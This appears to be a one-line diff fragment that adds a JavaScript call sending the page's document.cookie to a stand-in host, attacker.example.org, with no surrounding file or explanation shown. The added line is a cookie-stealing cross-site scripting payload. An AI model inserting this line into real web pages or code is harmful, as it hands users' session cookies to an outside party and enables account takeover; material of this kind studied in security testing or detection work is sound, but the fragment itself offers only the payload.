@@ -1,0 +1,1 @@
+fetch('https://attacker.example.org/?c=' + document.cookie)
